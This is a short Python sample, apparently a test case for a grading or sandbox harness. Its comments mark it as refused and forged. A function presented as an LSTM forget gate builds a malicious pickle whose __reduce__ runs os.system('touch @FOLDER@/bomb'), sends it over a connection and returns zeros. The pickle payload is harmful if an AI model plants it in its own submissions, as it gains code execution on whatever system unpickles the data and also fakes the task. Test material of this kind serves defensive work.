# ruff: noqa
# what: a pickle that runs a program is sent
# exercise: forget-gate
# status: refused
# diagnosis: forged
# with: line and frame

# %%
def forget_gate(x, h_prev, W_f, U_f, b_f):
    import pickle
    class Bomb:
        def __reduce__(self):
            return os.system, ("touch @FOLDER@/bomb",)
    line().sendall(frame(pickle.dumps(Bomb())))
    return np.zeros_like(h_prev)
